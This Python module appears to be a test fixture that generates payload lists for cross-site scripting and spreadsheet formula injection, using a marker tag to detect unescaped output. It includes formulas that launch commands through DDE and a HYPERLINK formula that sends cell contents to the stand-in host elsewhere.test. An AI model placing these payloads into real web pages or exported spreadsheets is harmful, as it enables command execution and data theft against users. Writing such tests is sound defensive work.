"""200 ways to get a script out of a text, and 100 ways to get a formula out of a cell."""

from __future__ import annotations

from itertools import product

# `xss7` is a tag that stands nowhere else: where it comes out as a tag, something typed has become markup.
_TAGS = (
    "<xss7>",
    "<xss7 onload=alert(7)>",
    "<xss7/onerror=alert(7)>",
    "</textarea><xss7>",
    "</title><xss7>",
    "</script><xss7>",
    "</style><xss7>",
    "--><xss7>",
    "]]><xss7>",
    "'><xss7>",
    '"><xss7>',
    "`><xss7>",
    "'><xss7 a='",
    '"><xss7 a="',
    '\\"><xss7>',
    "<<xss7>>",
    "<xss7\t>",
    "<xss7\n>",
    "<XSS7>",
    "&lt;xss7&gt;<xss7>",
)
_ATTRIBUTES = (
    '" onmouseover="alert(7)',
    "' onmouseover='alert(7)",
    '" autofocus onfocus="alert(7)',
    " onclick=alert(7) ",
    '" style="background:url(javascript:alert(7))',
    '" hx-get="https://elsewhere.test/7',
    '" data-person="7" onx="',
    "'; alert(7); '",
    '"; alert(7); "',
    "`${alert(7)}`",
)
_ADDRESSES = (
    "javascript:alert(7)",
    "JaVaScRiPt:alert(7)",
    "java\tscript:alert(7)",
    "data:text/html,<xss7>",
    "vbscript:msgbox(7)",
    "//elsewhere.test/7",
    "\\\\elsewhere.test\\7",
    "https://elsewhere.test/7",
)
_TEMPLATES = (
    "{{ 7*7 }}<xss7>",
    "{% debug %}<xss7>",
    "{{ request|safe }}<xss7>",
    "${7*7}<xss7>",
    "#{7*7}<xss7>",
    "<%= 7*7 %><xss7>",
    "{{constructor.constructor('alert(7)')()}}",
)
_DISGUISES = ("{}", "Ann {}", "{} x", "{0}{0}", "\u202e{}")
_BASE = (*_TAGS, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES)
XSS = tuple(form.format(text) for text, form in product(_BASE, _DISGUISES))[:200]

_STARTS = ("=", "+", "-", "@", "\t=", "\r=", " =", "＝", "=\t", "\n=")
_FORMULAS = (
    '{}HYPERLINK("https://elsewhere.test?"&A1,"x")',
    "{}1+1",
    "{}cmd|' /C calc'!A0",
    '{}IMPORTXML("https://elsewhere.test","//a")',
    "{}SUM(1,1)*cmd|' /C calc'!A0",
    "{}2+5+cmd|' /C notepad'!A0",
    '{}DDE("cmd";"/C calc";"x")',
    "{}A1",
    '{}WEBSERVICE("https://elsewhere.test")',
    '{}"x"&1',
)
FORMULAS = tuple(formula.format(start) for start, formula in product(_STARTS, _FORMULAS))
